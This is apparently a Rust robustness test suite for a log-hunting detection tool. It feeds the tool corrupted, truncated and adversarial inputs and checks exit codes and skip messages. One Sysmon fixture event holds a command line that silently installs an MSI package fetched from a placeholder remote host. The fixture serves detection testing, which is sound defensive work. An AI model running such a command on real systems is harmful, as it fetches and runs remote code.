//! The built binary on corrupted, truncated and adversarial inputs generated here: it never
//! panics, exits 0 (ran), 2 (usage/SPL/content error) or 3 (records skipped under --strict),
//! and says what it skipped.

mod common;

use common::{shared, stderr, stdout, vigil};
use std::path::{Path, PathBuf};
use std::process::Output;

fn workdir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("vigil-robustness-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// Deterministic pseudo-random bytes (xorshift64).
fn junk(len: usize, mut seed: u64) -> Vec<u8> {
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed >> 24) as u8
        })
        .collect()
}

fn check(o: &Output, allowed: &[i32], what: &str) {
    let err = stderr(o);
    assert!(!err.contains("panicked"), "{what}: panic\n{err}");
    let code = o.status.code().unwrap_or(-1);
    assert!(allowed.contains(&code), "{what}: exit {code}, expected one of {allowed:?}\nstderr:\n{err}");
}

fn hunt(path: &Path, strict: bool) -> Output {
    let p = path.to_str().unwrap();
    if strict {
        vigil(&["hunt", "--strict", "--verbose", p])
    } else {
        vigil(&["hunt", "--verbose", p])
    }
}

/// Runs `hunt` without and with --strict: 0 then `strict_code`; the skip reason is summarised.
fn hunt_both(path: &Path, strict_code: i32, reason: &str) {
    let what = path.display().to_string();
    let o = hunt(path, false);
    check(&o, &[0], &what);
    if !reason.is_empty() {
        assert!(stderr(&o).contains(reason), "{what}: summary should name `{reason}`:\n{}", stderr(&o));
    }
    check(&hunt(path, true), &[strict_code], &format!("{what} --strict"));
}

#[test]
fn truncated_evtx_at_many_offsets() {
    let Some(shared) = shared() else {
        eprintln!("skipped: ../shared/data/real not found");
        return;
    };
    let full = std::fs::read(shared.join("data/real/evtx/security.evtx")).unwrap();
    let dir = workdir("evtx");
    for cut in [8, 100, 4095, 4096, 5000, 69_632, 100_000, 135_168, 1_000_001, full.len() - 1] {
        let p = dir.join(format!("cut{cut}.evtx"));
        std::fs::write(&p, &full[..cut]).unwrap();
        let reason = if cut < 4096 { "bad EVTX file" } else { "truncated EVTX" };
        hunt_both(&p, 3, reason);
    }
    // Corrupted in the middle (bytes overwritten inside the second chunk).
    let mut bad = full.clone();
    bad[80_000..90_000].copy_from_slice(&junk(10_000, 7));
    let p = dir.join("corrupt.evtx");
    std::fs::write(&p, &bad).unwrap();
    check(&hunt(&p, false), &[0], "corrupt.evtx");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn junk_nul_bytes_and_fake_magic() {
    let dir = workdir("junk");
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        // Not logs: skipped whole with one line, not as records (so --strict still passes).
        ("random.bin", junk(65_536, 1), "not logs (binary data: 1)"),
        ("nul.bin", vec![0u8; 1 << 20], "not logs (binary data: 1)"),
        ("fake.evtx", [b"ElfFile\0".as_slice(), &junk(10_000, 2)].concat(), "EVTX"),
        ("fake.gz", [[0x1f, 0x8b, 8, 0].as_slice(), &junk(5_000, 3)].concat(), "unreadable file"),
        ("fake.zip", [b"PK\x03\x04".as_slice(), &junk(5_000, 4)].concat(), ""),
        ("fake.json", [b"[{\"a\":".as_slice(), &junk(5_000, 5)].concat(), "malformed JSON"),
        ("fake.xml", [b"<Event ".as_slice(), &junk(5_000, 6)].concat(), ""),
    ];
    for (name, bytes, reason) in cases {
        let p = dir.join(name);
        std::fs::write(&p, bytes).unwrap();
        hunt_both(&p, if reason.starts_with("not logs") { 0 } else { 3 }, reason);
    }
    // Everything at once, as a directory.
    let o = hunt(&dir, true);
    check(&o, &[3], "junk directory --strict");
    assert!(stderr(&o).contains("skipped ("), "summary by reason:\n{}", stderr(&o));
    let _ = std::fs::remove_dir_all(&dir);
}

const SYSMON: &str = "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><TimeCreated SystemTime='2026-11-20T10:15:01.1234567Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>H1</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='CommandLine'>msiexec /i http://x/a.msi /qn</Data></EventData></Event>";

fn events_read(o: &Output) -> String {
    stderr(o).lines().find(|l| l.contains("events read")).unwrap_or("").to_string()
}

#[test]
fn long_lines_invalid_utf8_and_deep_nesting() {
    let dir = workdir("text");
    // A 5 MB event on one line is read (the default record limit is 16 MB).
    let big = SYSMON.replace("/qn<", &format!("/qn {}<", "A".repeat(5 << 20)));
    let p = dir.join("big.log");
    std::fs::write(&p, format!("{big}\n{SYSMON}\n")).unwrap();
    let o = hunt(&p, true);
    check(&o, &[0], "5 MB event");
    assert!(events_read(&o).contains("2 events read"), "{}", stderr(&o));
    // A 5 MB line of junk is skipped and counted.
    let p = dir.join("bigjunk.log");
    std::fs::write(&p, format!("{}\n{SYSMON}\n", "z".repeat(5 << 20))).unwrap();
    hunt_both(&p, 3, "unrecognized line");
    // Invalid UTF-8 inside an XML event: the event is still read.
    let p = dir.join("utf8.log");
    let bad = SYSMON.replace("msiexec /i", "msiexec \u{1}/i").into_bytes();
    let bad: Vec<u8> = bad.iter().flat_map(|&b| if b == 1 { vec![0xff, 0xfe, 0xc3, 0x28] } else { vec![b] }).collect();
    std::fs::write(&p, [bad.as_slice(), b"\n", SYSMON.as_bytes(), b"\n"].concat()).unwrap();
    let o = hunt(&p, true);
    check(&o, &[0], "invalid UTF-8");
    assert!(events_read(&o).contains("2 events read"), "{}", stderr(&o));
    // Deeply nested JSON: an object per line and a top-level array.
    let p = dir.join("nested.json");
    std::fs::write(&p, format!("{}1{}\n{{\"b\":1}}\n", "{\"a\":".repeat(100_000), "}".repeat(100_000))).unwrap();
    hunt_both(&p, 3, "recursion limit");
    let p = dir.join("nested_array.json");
    std::fs::write(&p, format!("{}{}", "[".repeat(100_000), "]".repeat(100_000))).unwrap();
    hunt_both(&p, 3, "recursion limit");
    // Deeply nested XML.
    let p = dir.join("nested.xml");
    let deep = format!("<Event><System>{}</System></Event>\n", "<a>".repeat(50_000) + &"</a>".repeat(50_000));
    std::fs::write(&p, deep).unwrap();
    check(&hunt(&p, false), &[0], "nested XML");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn spl_errors_exit_2_with_a_caret() {
    let samples = common::repo().join("samples");
    let s = samples.to_str().unwrap();
    for spl in [
        r#"| tstats count from datamodel=Endpoint.Processes where Processes.process_name="msiexec.exe by Processes.dest"#,
        "search * | eval x=len(\"a\"",
        "search * | where match(x, \"(\")",
        "search * | where match(x, \"\\w{1000}{1000}\")",
        "search a=1 | addtotals",
        "`no_such_macro` | head 1",
        &"(".repeat(100_000),
        // A 5000-operator chain overflowed the stack (exit 134) before the operator limit.
        &format!("search * | eval x=1{}", "+1".repeat(5_000)),
    ] {
        let o = vigil(&["search", spl, s]);
        check(&o, &[2], spl);
        let err = stderr(&o);
        assert!(err.contains("--> search:1:") && err.contains('^'), "{spl}: position and caret expected:\n{err}");
    }
}

#[test]
fn content_with_a_yaml_typo_is_reported_with_file_and_line() {
    let dir = workdir("content");
    std::fs::create_dir_all(dir.join("detections/endpoint")).unwrap();
    std::fs::write(
        dir.join("detections/endpoint/typo.yml"),
        "name: Typo Detection\nid: 1a2b\nversion: 1\ntype: TTP\nsearch: '| tstats count from datamodel=Endpoint.Processes by Processes.dest\ndescription: the quote above is never closed\n",
    )
    .unwrap();
    std::fs::write(dir.join("detections/endpoint/indent.yml"), "name: Indent\n id: x\n").unwrap();
    std::fs::write(dir.join("detections/endpoint/binary.yml"), junk(2_000, 9)).unwrap();
    // libyaml is quadratic in flow nesting: this took minutes before the nesting pre-check.
    let deep = format!("name: Deep\nsearch: x\ntags: {}{}\n", "[".repeat(100_000), "]".repeat(100_000));
    std::fs::write(dir.join("detections/endpoint/deep.yml"), deep).unwrap();
    std::fs::create_dir_all(dir.join("macros")).unwrap();
    std::fs::write(dir.join("macros/deep.yml"), format!("name: m\ndefinition: {}\n", "{".repeat(100_000))).unwrap();
    let started = std::time::Instant::now();
    let c = dir.to_str().unwrap();
    let o = vigil(&["content", "check", "--content", c]);
    check(&o, &[0], "content check");
    let out = stdout(&o);
    assert!(out.contains("typo.yml:7"), "file:line for the YAML error:\n{out}");
    assert!(out.contains("indent.yml:2"), "file:line for the YAML error:\n{out}");
    assert!(out.contains("binary.yml"), "{out}");
    assert!(out.contains("deep.yml:3: YAML nests"), "{out}");
    assert!(started.elapsed().as_secs() < 20, "content check took {:?}", started.elapsed());
    // `vigil test` validates the same files: failures (exit 1) with file:line, in good time.
    let started = std::time::Instant::now();
    let o = vigil(&["test", "--content", c]);
    check(&o, &[1], "vigil test on broken content");
    let out = format!("{}{}", stdout(&o), stderr(&o));
    assert!(out.contains("deep.yml:3") && out.contains("typo.yml"), "{out}");
    assert!(started.elapsed().as_secs() < 20, "vigil test took {:?}", started.elapsed());
    // Hunting with that content still runs the usable detections and says what it could not load.
    let samples = common::repo().join("samples");
    let o = vigil(&["hunt", "--content", c, samples.to_str().unwrap()]);
    check(&o, &[0], "hunt with broken content");
    assert!(stderr(&o).contains("could not be loaded"), "{}", stderr(&o));
    // A content directory that does not exist is a usage error.
    let o = vigil(&["hunt", "--content", "/nonexistent/vigil-content", samples.to_str().unwrap()]);
    check(&o, &[2], "missing content dir");
    let _ = std::fs::remove_dir_all(&dir);
}
